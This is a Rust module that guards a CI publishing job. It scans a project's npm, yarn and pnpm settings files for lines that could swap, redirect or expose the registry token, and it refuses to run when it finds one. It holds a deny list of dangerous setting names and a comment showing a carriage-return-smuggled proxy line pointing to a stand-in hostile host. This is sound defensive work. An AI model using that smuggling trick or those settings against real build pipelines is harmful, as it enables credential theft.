//! Files of a project that could take a token or send it elsewhere, and that nothing on the command line overrides.
//!
//! A project's content is what a pull request may change; the job's environment is not. So how the registry is
//! reached and with which credential is for the job to say, and a project that says it too is not run with a token.

use std::{
    fs, io,
    path::{Path, PathBuf},
};

use protected_model::{hint::Hint, name::PackageName, service_url::ServiceUrl};

use crate::yaml;

/// The largest settings file that is looked at.
const MAX_BYTES: u64 = 1024 * 1024;

/// A setting with which a command is not run.
#[derive(Debug, thiserror::Error)]
pub enum Hostile {
    /// A setting that no flag overrides.
    #[error("`{}:{line}`: `{key}` {danger}", path.display())]
    Setting {
        /// The file.
        path: PathBuf,
        /// From 1.
        line: usize,
        /// The setting's name.
        key: String,
        /// What it could do.
        danger: Danger,
    },
    /// A line that could hold any setting.
    #[error("`{}:{line}` cannot be read for certain, so it could hold a setting that takes the token", path.display())]
    Unreadable {
        /// The file.
        path: PathBuf,
        /// From 1.
        line: usize,
    },
    /// The file cannot be read.
    #[error("reading `{}`", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// Why.
        #[source]
        source: io::Error,
    },
    /// Nobody writes that much into it.
    #[error("`{}` has more than {MAX_BYTES} bytes", path.display())]
    TooLarge {
        /// The file.
        path: PathBuf,
    },
}

/// What a setting could do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Danger {
    /// It puts another credential in the place of the token.
    Credential,
    /// It sends requests for the package elsewhere.
    Redirect,
    /// It changes whom the connection trusts or passes.
    Connection,
    /// It runs a program of the project's while the token can be read.
    Program,
}

impl std::fmt::Display for Danger {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Self::Credential => "would put another credential in the place of the token",
            Self::Redirect => "would send requests for the package to another registry",
            Self::Connection => "decides through whom the token travels and who is trusted with it",
            Self::Program => "runs a program of the project while the token can be read",
        })
    }
}

impl Hostile {
    /// Returns what can be done about it.
    pub fn hint(&self) -> Option<Hint> {
        let Self::Setting { danger, .. } = self else { return None };
        Some(Hint::new(match danger {
            Danger::Credential => "remove the line: the credential is supplied with each command",
            Danger::Redirect => "remove the line, or give it the registry's own address",
            Danger::Connection => {
                "move it into the job's environment: HTTPS_PROXY, NO_PROXY and NODE_EXTRA_CA_CERTS are passed on"
            }
            Danger::Program => "remove the line for this project, or install with another package manager",
        }))
    }
}

/// What a file is held against.
pub(crate) struct Target<'a> {
    pub(crate) package: &'a PackageName,
    pub(crate) registry: &'a ServiceUrl,
}

impl Target<'_> {
    /// Returns whether `url` is the registry that the package is meant for.
    pub(crate) fn is_registry(&self, url: &str) -> bool {
        url.trim_end_matches('/') == self.registry.as_url().as_str().trim_end_matches('/')
    }

    fn scope(&self) -> String {
        self.package.scope().as_str().trim_start_matches('@').to_owned()
    }
}

/// Where a package manager looks for a project's settings: the folder and those above it, without the user's home,
/// whose files are the machine's and not the project's.
pub(crate) fn folders<'a>(project: &'a Path, home: Option<&'a Path>) -> impl Iterator<Item = &'a Path> {
    project.ancestors().filter(move |folder| Some(*folder) != home || *folder == project)
}

/// Reads a settings file; `None` when there is none.
fn read(path: &Path) -> Result<Option<String>, Hostile> {
    let refuse = |source| Hostile::Read { path: path.to_owned(), source };
    match fs::metadata(path) {
        Ok(found) if found.len() > MAX_BYTES => return Err(Hostile::TooLarge { path: path.to_owned() }),
        Ok(found) if found.is_dir() => return Ok(None),
        Ok(_) => {}
        Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
        Err(source) => return Err(refuse(source)),
    }
    let bytes = fs::read(path).map_err(refuse)?;
    let text = String::from_utf8_lossy(&bytes).into_owned();
    match odd_line_end(&text) {
        Some(line) => Err(Hostile::Unreadable { path: path.to_owned(), line }),
        None => Ok(Some(text)),
    }
}

/// Returns the line with a line end that some readers see and others do not.
///
/// Attack: `# note\rproxy=http://evil/` is one comment to a reader of lines, and a setting to npm's, which ends a
/// line at a lone CR, as YAML's do; YAML 1.1 also ends one at NEL, U+2028 and U+2029.
fn odd_line_end(text: &str) -> Option<usize> {
    let odd = |line: &str| {
        let line = line.strip_suffix('\r').unwrap_or(line);
        line.contains(['\r', '\u{85}', '\u{2028}', '\u{2029}', '\0'])
    };
    text.split('\n').position(odd).map(|index| index + 1)
}

/// Looks through an `.npmrc` for npm and pnpm, which take the registry from the command line before it.
pub(crate) fn npmrc(path: &Path, target: &Target<'_>) -> Result<(), Hostile> {
    each_npm_setting(path, |name, value| npm_setting(name, value, target))
}

/// Looks through an `.npmrc` for yarn 1, which takes the registry from the environment before it. Where `yarn` is a
/// shell script, that variable never arrives: a shell drops a name such as `npm_config_@acme:registry`.
pub(crate) fn yarn_npmrc(path: &Path, target: &Target<'_>) -> Result<(), Hostile> {
    each_npm_setting(path, |name, value| {
        npm_setting(name, value, target).or_else(|| scope_setting(name, value, target))
    })
}

fn each_npm_setting(path: &Path, judge: impl Fn(&str, &str) -> Option<Danger>) -> Result<(), Hostile> {
    let Some(text) = read(path)? else { return Ok(()) };
    for (index, raw) in text.trim_start_matches('\u{feff}').lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with([';', '#']) {
            continue;
        }
        let (name, value) = line.split_once('=').unwrap_or((line, "true"));
        let name = name.trim().trim_end_matches("[]");
        // Attack: npm's reader takes `proxy;x`, `proxy # c` and `'"proxy"'` all for `proxy`. Names that need more
        // than these characters are nobody's; `${` is judged below.
        let plain = |c: char| c.is_ascii_alphanumeric() || "@/:._-${}[]?%".contains(c);
        if !name.chars().all(plain) {
            return Err(Hostile::Unreadable { path: path.to_owned(), line: index + 1 });
        }
        if let Some(danger) = judge(name, unquoted(value)) {
            let (path, key) = (path.to_owned(), name.to_owned());
            return Err(Hostile::Setting { path, line: index + 1, key, danger });
        }
    }
    Ok(())
}

/// Judges a setting that says where the package's scope lives.
fn scope_setting(name: &str, value: &str, target: &Target<'_>) -> Option<Danger> {
    let scope = target.package.scope();
    let ours = !scope.is_empty() && name.strip_suffix(":registry") == Some(scope.as_str());
    (ours && !target.is_registry(value)).then_some(Danger::Redirect)
}

/// Lists the variables that an `.npmrc` names, such as `${NPM_TOKEN}`.
pub(crate) fn variables(path: &Path) -> Result<Vec<String>, Hostile> {
    let text = read(path)?.unwrap_or_default();
    let names = text.split("${").skip(1).filter_map(|rest| Some(rest.split_once('}')?.0.to_owned()));
    Ok(names.filter(|name| !name.is_empty() && !name.contains(['=', '\0'])).collect())
}

fn unquoted(text: &str) -> &str {
    let text = text.trim();
    let inner = |quote| text.strip_prefix(quote).and_then(|text| text.strip_suffix(quote));
    inner('"').or_else(|| inner('\'')).unwrap_or(text)
}

/// Judges one setting of npm's, from an `.npmrc` or from `publishConfig`.
pub(crate) fn npm_setting(name: &str, value: &str, target: &Target<'_>) -> Option<Danger> {
    let lower = name.to_ascii_lowercase().replace('_', "-");
    // npm replaces variables in names too: this one could become any.
    if name.contains("${") || name.contains('\\') {
        return Some(Danger::Credential);
    }
    if let Some(place) = name.strip_prefix("//") {
        let host = place.split(['/', ':']).next().unwrap_or_default();
        if name.to_ascii_lowercase().ends_with(":tokenhelper") {
            return Some(Danger::Program);
        }
        let registry = target.registry.as_url().host_str().unwrap_or_default();
        return host.eq_ignore_ascii_case(registry).then_some(Danger::Credential);
    }
    match lower.as_str() {
        "-auth" | "-authtoken" | "-password" | "username" => Some(Danger::Credential),
        "strict-ssl" if matches!(value, "true" | "") => None,
        "proxy" | "https-proxy" | "http-proxy" | "noproxy" | "no-proxy" | "ca" | "cafile" | "cert"
        | "key" | "strict-ssl" | "local-address" => Some(Danger::Connection),
        "git" | "tokenhelper" | "node-gyp" | "npm-path" | "yarn-path" => Some(Danger::Program),
        _ => None,
    }
}

/// Looks through a `.yarnrc`, which yarn 1 reads. Its lines are `name value`, or `--command.flag value`.
pub(crate) fn yarnrc(path: &Path, target: &Target<'_>) -> Result<(), Hostile> {
    let Some(text) = read(path)? else { return Ok(()) };
    for (index, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (name, value) = line.split_once([' ', '\t']).unwrap_or((line, "true"));
        let name = unquoted(name.trim_end_matches(':'));
        let flag = name.strip_prefix("--").map(|flag| flag.rsplit('.').next().unwrap_or(flag));
        let danger = match flag {
            Some("registry") => Some(Danger::Redirect),
            Some("ignore-scripts" | "cwd" | "use-yarnrc" | "no-default-rc") => Some(Danger::Program),
            Some(flag) => npm_setting(flag, unquoted(value), target),
            // YARN_IGNORE_PATH is set.
            None if name == "yarn-path" => None,
            None => npm_setting(name, unquoted(value), target)
                .or_else(|| scope_setting(name, unquoted(value), target)),
        };
        if let Some(danger) = danger {
            return Err(Hostile::Setting {
                path: path.to_owned(),
                line: index + 1,
                key: name.to_owned(),
                danger,
            });
        }
    }
    Ok(())
}

/// Looks through a `.yarnrc.yml`, which yarn 2 and later read.
pub(crate) fn yarnrc_yml(path: &Path, target: &Target<'_>) -> Result<(), Hostile> {
    each_setting(path, |keys, value| berry_setting(keys, value, target))
}

fn berry_setting(keys: &[&str], value: &str, target: &Target<'_>) -> Option<Danger> {
    let scope = target.scope();
    match keys {
        // Plugins run inside yarn. `yarnPath` would too, but YARN_IGNORE_PATH is set.
        ["plugins", ..] => Some(Danger::Program),
        [
            "httpProxy"
            | "httpsProxy"
            | "httpsCaFilePath"
            | "caFilePath"
            | "httpsCertFilePath"
            | "httpsKeyFilePath"
            | "networkSettings"
            | "unsafeHttpWhitelist",
            ..,
        ] => Some(Danger::Connection),
        ["enableStrictSsl"] if value != "true" => Some(Danger::Connection),
        ["npmAuthToken" | "npmAuthIdent"] if scope.is_empty() => Some(Danger::Credential),
        ["npmRegistries", place, _] => {
            let host =
                place.trim_start_matches("https:").trim_start_matches("http:").trim_start_matches("//");
            let host = host.split(['/', ':']).next().unwrap_or_default();
            let registry = target.registry.as_url().host_str().unwrap_or_default();
            host.eq_ignore_ascii_case(registry).then_some(Danger::Credential)
        }
        ["npmScopes", name, setting] if !scope.is_empty() && name.trim_start_matches('@') == scope => {
            match *setting {
                "npmRegistryServer" | "npmPublishRegistry" if target.is_registry(value) => None,
                "npmRegistryServer" | "npmPublishRegistry" => Some(Danger::Redirect),
                "npmAuthToken" | "npmAuthIdent" => Some(Danger::Credential),
                _ => None,
            }
        }
        _ => None,
    }
}

/// Looks through a `pnpm-workspace.yaml`.
pub(crate) fn pnpm_workspace(path: &Path, target: &Target<'_>) -> Result<(), Hostile> {
    each_setting(path, |keys, value| pnpm_setting(keys, value, target))
}

fn pnpm_setting(keys: &[&str], value: &str, target: &Target<'_>) -> Option<Danger> {
    let scope = target.package.scope();
    let ours = if scope.is_empty() { "default" } else { scope.as_str() };
    match keys {
        ["registries", name] if *name == ours && !target.is_registry(value) => Some(Danger::Redirect),
        ["npmrcAuthFile" | "userconfig" | "authConfig" | "_auth", ..] => Some(Danger::Credential),
        ["configDependencies" | "tokenHelper" | "gitPath", ..] => Some(Danger::Program),
        ["strictSsl"] if value == "true" => None,
        [
            "proxy" | "httpProxy" | "httpsProxy" | "noProxy" | "noproxy" | "ca" | "cafile" | "cert" | "key"
            | "strictSsl" | "localAddress",
            ..,
        ] => Some(Danger::Connection),
        [name] => npm_setting(name, value, target),
        _ => None,
    }
}

fn each_setting(path: &Path, judge: impl Fn(&[&str], &str) -> Option<Danger>) -> Result<(), Hostile> {
    let Some(text) = read(path)? else { return Ok(()) };
    let settings = yaml::settings(&text)
        .map_err(|yaml::Unreadable(line)| Hostile::Unreadable { path: path.to_owned(), line })?;
    for setting in settings {
        let keys: Vec<&str> = setting.path.iter().map(String::as_str).collect();
        if let Some(danger) = judge(&keys, &setting.value) {
            let key = setting.path.join(".");
            return Err(Hostile::Setting { path: path.to_owned(), line: setting.line, key, danger });
        }
    }
    Ok(())
}
